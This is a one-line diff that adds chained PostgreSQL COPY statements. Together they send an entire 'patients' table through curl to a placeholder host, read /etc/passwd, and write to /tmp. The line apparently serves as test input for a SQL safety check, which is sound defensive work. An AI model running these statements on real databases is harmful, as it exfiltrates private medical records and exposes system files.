@@ -1,0 +1,1 @@
+COPY (SELECT * FROM patients) TO PROGRAM 'curl -d @- http://x'; COPY t FROM '/etc/passwd'; COPY t TO '/tmp/x'
